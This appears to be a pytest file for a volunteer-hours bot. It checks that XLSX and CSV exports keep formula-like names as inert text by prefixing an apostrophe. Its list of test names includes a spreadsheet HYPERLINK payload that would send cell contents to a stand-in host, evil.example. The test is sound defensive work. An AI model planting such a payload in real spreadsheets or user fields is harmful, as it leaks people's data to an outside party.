"""Exports a spreadsheet cannot execute (issue 17.2): XLSX and CSV, names as they are now."""

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from storage.models import HourEntry, Person, Role
from tests.seed import SOCIAL_WORKER, register, seed_cast

NASTY = [
    '=HYPERLINK("http://evil.example/?d="&A3&B3,"Siu Fong")',
    "+85291234567",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTab Lady",
    "\rReturn Man",
]


@pytest.fixture
async def cast(bot):
    return await seed_cast(bot.services, bot.sandbox)


async def add_entry(bot, person_id: int, day: dt.date, minutes: int, activity="visit") -> None:
    async with bot.services.sessions() as session:
        now = bot.clock()
        session.add(
            HourEntry(
                person_id=person_id,
                day=day,
                minutes=minutes,
                activity=activity,
                created_at=now,
                updated_at=now,
            )
        )
        await session.commit()


def every_cell(workbook):
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


async def test_names_that_look_like_formulas_stay_text_in_xlsx_and_csv(bot, cast):
    for number, name in enumerate(NASTY):
        person = await register(
            bot.services,
            telegram_id=2200 + number,
            name=name,
            role=Role.SUPPORTER,
            unit_id=cast.unit.id,
            social_worker_id=cast.worker.id,
        )
        async with bot.services.sessions() as session:
            # As the profile holds it now (joining trims the whitespace a name starts with).
            (await session.get(Person, person.id)).display_name = name
            await session.commit()
        await add_entry(bot, person.id, dt.date(2026, 10, 3 + number), 60)
    replies = await bot.say(SOCIAL_WORKER, "/export 2026-10")
    documents = [r.document for r in replies if r.document is not None]
    workbooks = [load_workbook(io.BytesIO(d.data)) for d in documents if d.filename.endswith("x")]
    texts = [d.data.decode("utf-8-sig") for d in documents if d.filename.endswith(".csv")]
    assert workbooks and texts
    for workbook in workbooks:
        cells = list(every_cell(workbook))
        assert not [c.coordinate for c in cells if c.data_type == "f"], "a live formula"
        values = {c.value for c in cells if isinstance(c.value, str)}
        for name in NASTY:
            name = name.replace("\r", "\n")  # XML reads a stored CR back as LF
            assert "'" + name in values, name
            assert name not in values, name
    for text in texts:
        cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
        for name in NASTY:
            assert "'" + name in cells, name
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


async def test_exports_use_the_name_in_the_current_profile(bot, cast):
    await add_entry(bot, cast.supporter.id, dt.date(2026, 10, 3), 60)
    async with bot.services.sessions() as session:
        person = await session.get(Person, cast.supporter.id)
        person.display_name = "Chan Siu Fong"  # renamed since joining as "Siu Fong"
        await session.commit()
    replies = await bot.say(SOCIAL_WORKER, "/export 2026-10")
    csv_text = next(r.document for r in replies if r.document.filename.endswith(".csv"))
    content = csv_text.data.decode("utf-8-sig")
    assert "Chan Siu Fong" in content
    assert "\r\nSiu Fong," not in content
